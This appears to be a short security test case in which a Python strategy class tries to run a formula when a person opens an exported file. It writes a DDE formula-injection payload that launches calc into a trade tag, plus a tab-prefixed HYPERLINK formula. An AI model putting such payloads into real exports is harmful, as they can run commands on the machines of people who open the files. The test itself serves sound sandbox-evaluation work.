# id: T05
# family: text
# goal: run a formula when a person opens an export
# finding: PY502
# outcome: COMPLETED
# observed_by: none
# control: text

from glovebox import Strategy


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        ctx.buy(1, tag="=cmd|' /C calc'!A0")
        ctx.log("\t=HYPERLINK(\"http://x\")")
